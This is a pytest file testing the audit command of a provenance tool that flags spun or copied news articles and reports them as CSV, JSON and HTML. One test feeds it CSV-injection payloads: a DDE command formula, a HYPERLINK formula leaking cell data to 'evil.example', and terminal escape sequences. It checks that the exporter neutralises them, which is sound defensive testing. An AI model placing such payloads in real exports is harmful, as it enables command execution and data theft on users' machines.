"""``provenance audit``: the spun seed pages against seed 000 — 002 derived from 000, nothing else."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from provenance.audit import EVIDENCE_CHARS, SITE_PREFIX, audit
from provenance.audit_report import AUDIT_COLUMNS, BOM, safe_cell, to_audit_csv, to_audit_json
from provenance.cli import main
from provenance.errors import ExitCode
from tests.conftest import SEED_000, SEEDS
from tests.fixtures import HOST, UNRELATED_STORIES

REFERENCE = str(SEEDS / SEED_000)
PAGE_002 = "002_5ff9f7e693aef6ae.html"
URL_002 = f"https://{HOST}/2023/09/14/north-korean-leader-holds-talks-with-russian-president/"


def _invoke(*args: str):
    return CliRunner().invoke(main, ["audit", *args, "--workers", "1"])


@pytest.fixture(scope="module")
def site_audit(site_dir):
    return audit([site_dir], [REFERENCE], workers=1)


def test_only_002_is_derived_and_from_000(site_audit):
    assert site_audit.derived == (PAGE_002,)
    assert site_audit.site == ("001_71f3c18bbb394e61.html", PAGE_002, "003_ad2f7963976caff1.html", "004_6ee2fd30d7e35e5a.html")
    assert [(r.article, r.status, r.rank, r.source, r.source_kind) for r in site_audit.rows] == [
        ("001_71f3c18bbb394e61.html", "not derived", 0, None, None),
        (PAGE_002, "derived", 1, SEED_000, "reference"),
        ("003_ad2f7963976caff1.html", "not derived", 0, None, None),
        ("004_6ee2fd30d7e35e5a.html", "not derived", 0, None, None),
    ]
    assert site_audit.prefixed is False


def test_derived_row_carries_scores_dates_and_evidence(site_audit):
    row = site_audit.rows[1]
    match = site_audit.report.matches[0]
    assert (match.source, match.derived) == (SEED_000, PAGE_002)
    assert (row.overlap, row.source_overlap, row.passages, row.relation, row.confidence, row.date_conflict) == (
        match.overlap, match.source_overlap, len(match.passages), match.relation, match.confidence, match.date_conflict)
    assert row.overlap >= 0.5 and row.relation in {"rewrite", "near-copy"}
    assert (row.published, row.published_from, row.source_published) == ("2023-09-14", "url", None)
    text = next(a.text for a in site_audit.report.articles if a.id == PAGE_002)
    assert len(row.evidence) <= EVIDENCE_CHARS
    assert row.evidence.rstrip("…") in " ".join(text.split())
    # Boilerplate never reached matching: every passage lies inside the story text.
    for passage in match.passages:
        assert "Leave a Reply" not in text[passage.derived_start : passage.derived_end]


def test_warc_crawl_audit_uses_urls_and_counts_skips(crawl):
    result = audit([crawl], [REFERENCE], workers=1)
    assert result.derived == (URL_002,)
    assert len(result.report.skipped) == 3
    row = next(r for r in result.rows if r.article == URL_002)
    assert row.crawled == "2023-10-02T08:00:00Z" and row.url == URL_002


def test_colliding_ids_prefix_the_site(tmp_path):
    result = audit([REFERENCE], [REFERENCE], workers=1)
    assert result.prefixed and result.site == (SITE_PREFIX + SEED_000,)
    (row,) = result.rows
    assert (row.status, row.source) == ("derived", SEED_000) and row.overlap > 0.9


def test_further_sources_come_after_the_best(tmp_path):
    # A site article stitched from two earlier reference articles: the spun 002 and a bakery story.
    (tmp_path / "reference").mkdir()
    (tmp_path / "site").mkdir()
    seed_000 = (SEEDS / SEED_000).read_text(encoding="utf-8")
    spun_002 = (SEEDS / "002_5ff9f7e693aef6ae.txt").read_text(encoding="utf-8").split("\n", 1)[1]
    (tmp_path / "reference" / "wire.txt").write_text("Sep 13, 2023\n" + seed_000, encoding="utf-8")
    (tmp_path / "reference" / "bakery.txt").write_text("Sep 12, 2023\n" + UNRELATED_STORIES[1], encoding="utf-8")
    stitched = "Sep 20, 2023\n" + spun_002 + "\n\n" + UNRELATED_STORIES[1].split("\n\n")[1]
    (tmp_path / "site" / "stitched.txt").write_text(stitched, encoding="utf-8")
    result = audit([tmp_path / "site"], [tmp_path / "reference"], workers=1)
    assert [(r.rank, r.source, r.status) for r in result.rows] == [(1, "wire.txt", "derived"), (2, "bakery.txt", "derived")]
    assert result.rows[0].overlap > result.rows[1].overlap
    assert [(r.published, r.source_published, r.source_published_from) for r in result.rows] == [
        ("2023-09-20", "2023-09-13", "date-line"), ("2023-09-20", "2023-09-12", "date-line")]
    rows = list(csv.DictReader(io.StringIO(to_audit_csv(result).lstrip(BOM), newline="")))
    assert [(r["article"], r["source rank"], r["source"]) for r in rows] == [
        ("stitched.txt", "best source", "wire.txt"), ("stitched.txt", "further source", "bakery.txt")]


def test_csv_parses_back_with_header_and_rows(tmp_path, site_dir):
    out = tmp_path / "audit.csv"
    result = _invoke(str(site_dir), "--against", REFERENCE, "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(BOM.encode("utf-8"))
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == [label for _, label in AUDIT_COLUMNS]
    assert [(r["article"], r["status"], r["source rank"], r["source"]) for r in rows] == [
        ("001_71f3c18bbb394e61.html", "not derived", "", ""),
        (PAGE_002, "derived", "best source", SEED_000),
        ("003_ad2f7963976caff1.html", "not derived", "", ""),
        ("004_6ee2fd30d7e35e5a.html", "not derived", "", ""),
    ]
    derived = rows[1]
    assert derived["source is"] == "reference" and derived["relation"] in {"rewrite", "near-copy"}
    assert derived["overlap %"].count(".") == 1 and len(derived["overlap %"].split(".")[1]) == 1
    assert float(derived["overlap %"]) >= 50.0
    assert (derived["published"], derived["published from"], derived["date conflict"]) == ("2023-09-14", "url", "no")
    assert derived["evidence"].startswith("North Korean leader Kim Jong Un has met with Russian President")
    assert "provenance audit: 4 site articles, 1 derived (1 from the reference, 0 from the same site)" in result.stderr


def test_csv_neutralises_formulas(tmp_path):
    site = tmp_path / "site.jsonl"
    story = (SEEDS / "002_5ff9f7e693aef6ae.txt").read_text(encoding="utf-8")
    site.write_text(json.dumps({"id": "=cmd|' /C calc'!A0", "title": "@SUM(A1:A9)\x1b]0;owned\x07", "text": story}) + "\n",
                    encoding="utf-8")
    result = _invoke(str(site), "--against", REFERENCE, "--format", "csv")
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(result.stdout.lstrip(BOM), newline="")))
    # No formula, and (printed to a terminal) no control sequence either.
    assert row["article"] == "'=cmd|' /C calc'!A0" and row["title"] == "'@SUM(A1:A9)\\x1b]0;owned\\x07"
    assert "\x1b" not in result.stdout
    assert [safe_cell(v) for v in ("-1", "+x", "plain", "\tx")] == ["'-1", "'+x", "plain", "'\tx"]
    # Every text cell, not a list of those that came from the pages (the crawl date was left off it).
    from provenance.audit import AuditRow
    from provenance.audit_report import display_row

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")\x1b]0;PWNED\x07'
    shown = display_row(AuditRow(article="a", status="not derived", rank=0, url=None, title=None, published=hostile,
                                 published_from=hostile, crawled=hostile))
    assert all(not str(value).startswith("=") and "\x1b" not in str(value) for value in shown.values())


def test_fail_above_exit_codes(site_dir):
    tripped = _invoke(str(site_dir), "--against", REFERENCE, "--fail-above", "0.5")
    assert tripped.exit_code == ExitCode.GATE == 1
    assert "gate: an article is at least 50.0% derived" in tripped.stderr
    assert _invoke(str(site_dir), "--against", REFERENCE, "--fail-above", "1.0").exit_code == 0
    assert _invoke(str(site_dir), "--against", REFERENCE, "--fail-above", "1.5").exit_code == 2


def test_json_is_the_report_contract_plus_audit_rows(site_dir, site_audit):
    result = _invoke(str(site_dir), "--against", REFERENCE, "--format", "json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert list(data)[:9] == ["schema_version", "provenance_version", "settings_key", "settings", "articles", "pairs", "trees", "stories", "skipped"]
    assert [(r["article"], r["status"], r["source"]) for r in data["audit"]] == [
        (r.article, r.status, r.source) for r in site_audit.rows]
    assert data["audit"][1]["overlap"] == site_audit.rows[1].overlap  # fractions, not percentages
    assert result.stdout == to_audit_json(site_audit)


def test_table_and_input_errors(tmp_path, site_dir):
    table = _invoke(str(site_dir), "--against", REFERENCE)
    assert table.exit_code == 0
    assert "not derived" in table.stdout and "2023-09-14 (url)" in table.stdout
    (tmp_path / "empty").mkdir()
    assert _invoke(str(tmp_path / "empty"), "--against", REFERENCE).exit_code == ExitCode.INPUT
    assert _invoke(str(site_dir), "--against", str(tmp_path / "missing")).exit_code == ExitCode.INPUT
    assert _invoke(str(site_dir)).exit_code == ExitCode.USAGE


def test_audit_against_an_index_matches_audit_against_files(site_dir, tmp_path):
    db = tmp_path / "reference.provenance.db"
    assert CliRunner().invoke(main, ["index", "build", REFERENCE, "--index", str(db), "--workers", "1"]).exit_code == 0
    by_files = json.loads(_invoke(str(site_dir), "--against", REFERENCE, "--format", "json").stdout)["audit"]
    by_index = _invoke(str(site_dir), "--index", str(db), "--format", "json", "--fail-above", "0.5")
    assert by_index.exit_code == ExitCode.GATE
    rows = json.loads(by_index.stdout)["audit"]
    assert [(r["article"], r["status"], r["source"], r["overlap"]) for r in rows] == [
        (r["article"], r["status"], r["source"], r["overlap"]) for r in by_files]
    # The site was added: the index now holds the reference and the four pages.
    info = CliRunner().invoke(main, ["index", "info", "--index", str(db)])
    assert "articles: 5\n" in info.stdout


def test_audit_needs_exactly_one_reference(site_dir, tmp_path):
    assert _invoke(str(site_dir)).exit_code == 2
    assert _invoke(str(site_dir), "--against", REFERENCE, "--index", str(tmp_path / "x.db")).exit_code == 2


def test_undated_the_reference_is_the_source_whatever_the_names_and_padding(tmp_path):
    # Undated, a verbatim copy's direction fell to its id: site/copy.txt ("copy.txt" < "wire.txt") was
    # the *source* of the wire story, so "not derived", and --fail-above passed; zcopy.txt was
    # derived. A copy padded with the site's own sentences "contained" the reference and was its
    # source by text. The audit asks what the site took: undated, the reference is the source.
    wire = (SEEDS / SEED_000).read_text(encoding="utf-8")
    (tmp_path / "ref").mkdir()
    (tmp_path / "ref" / "wire.txt").write_text(wire, encoding="utf-8")
    padded = wire + "\n\nOur own commentary: the meeting signals a deepening alliance that worries Western capitals. " \
                    "Analysts told our newsroom that sanctions will be tested in the coming months.\n"
    for run, (name, text) in enumerate((("copy.txt", wire), ("zcopy.txt", wire), ("copy.txt", padded))):
        site = tmp_path / "site"
        site.mkdir(exist_ok=True)
        for old in site.iterdir():
            old.unlink()
        (site / name).write_text(text, encoding="utf-8")
        result = audit([site], [tmp_path / "ref"], workers=1)
        assert [(r.article, r.status, r.source) for r in result.rows] == [(name, "derived", "wire.txt")], name
        assert [m.direction_from for m in result.report.matches] == ["reference"]
        gate = _invoke(str(site), "--against", str(tmp_path / "ref"), "--fail-above", "0.5")
        assert gate.exit_code == ExitCode.GATE and f"(most: {name}, " in gate.stderr
        db = tmp_path / f"{run}.db"
        assert CliRunner().invoke(main, ["index", "build", str(tmp_path / "ref"), "--index", str(db)]).exit_code == 0
        by_index = _invoke(str(site), "--index", str(db), "--fail-above", "0.5")
        assert by_index.exit_code == ExitCode.GATE and "1 reference article," in by_index.stderr
    # Dates still decide: a site article published first is the reference's source.
    dated = audit([tmp_path / "site"], [tmp_path / "ref"], workers=1)
    assert dated.rows[0].status == "derived"
    (tmp_path / "ref" / "wire.txt").write_text("Published: Sep 20, 2023\n\n" + wire, encoding="utf-8")
    (tmp_path / "site" / "copy.txt").write_text("Published: Sep 13, 2023\n\n" + padded, encoding="utf-8")
    assert [r.status for r in audit([tmp_path / "site"], [tmp_path / "ref"], workers=1).rows] == ["not derived"]


def test_a_sites_copies_of_its_own_pages_do_not_trip_the_gate(tmp_path):
    # An AMP or print version of a page is the site's own: reported, but --fail-above exited 1 on it.
    (tmp_path / "site").mkdir()
    (tmp_path / "ref").mkdir()
    for name in ("story.txt", "story-amp.txt"):
        (tmp_path / "site" / name).write_text((SEEDS / "004_6ee2fd30d7e35e5a.txt").read_text(encoding="utf-8"), encoding="utf-8")
    (tmp_path / "ref" / "wire.txt").write_text((SEEDS / SEED_000).read_text(encoding="utf-8"), encoding="utf-8")
    result = _invoke(str(tmp_path / "site"), "--against", str(tmp_path / "ref"), "--fail-above", "0.5")
    assert result.exit_code == 0 and "1 derived (0 from the reference, 1 from the same site)" in result.stderr


def test_the_html_audit_shows_the_verdicts_first_each_linked_to_its_pair(tmp_path, site_dir):
    # `audit --format html` was the plain scan page of site and reference: no verdict, no "not derived".
    from tests.test_html import assert_inert

    result = _invoke(str(site_dir), "--against", REFERENCE, "--format", "html", "-o", str(tmp_path / "audit.html"))
    assert result.exit_code == 0, result.output
    page = (tmp_path / "audit.html").read_text(encoding="utf-8")
    assert_inert(page)
    section = page[page.index('<section id="audit">') : page.index('<section id="overview">')]
    assert section.count("<tr>") == 1 + 4  # the header, and the four audited pages
    assert section.count(">not derived</td>") == 3
    assert f'{PAGE_002}</a></td><td><a href="#pair-0">derived</a></td>' in section
    scan_page = CliRunner().invoke(main, ["scan", str(site_dir), REFERENCE, "--format", "html"]).stdout
    assert 'id="audit"' not in scan_page
